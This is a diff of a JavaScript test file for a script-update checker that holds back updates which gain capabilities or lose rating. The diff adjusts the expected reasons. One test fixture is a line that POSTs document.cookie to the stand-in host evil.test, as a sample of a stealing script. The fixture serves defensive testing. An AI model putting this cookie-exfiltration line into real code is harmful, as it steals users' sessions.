@@ -34,13 +34,13 @@ describe("update-scripts: check", () => {
 		});
 
 		test.each([
-			["contacts a server", contacts("evil.test"), ["new-capabilities", "changed-library"]],
+			["contacts a server", contacts("evil.test"), ["new-capabilities", "worse-rating", "changed-library"]],
 			[
 				"steals",
 				"fetch('https://evil.test/', { method: 'POST', body: document.cookie });",
 				["new-capabilities", "worse-rating", "changed-library"],
 			],
-			["cannot be rated", "var (", ["changed-library"]],
+			["cannot be rated", "var (", ["worse-rating", "changed-library"]],
 		])("one that %s holds the update", async (_, body, reasons) => {
 			const { check, install, served, library } = openCheck();
 			const id = await install(script("1", "1;", line), SOURCE, [kept]);
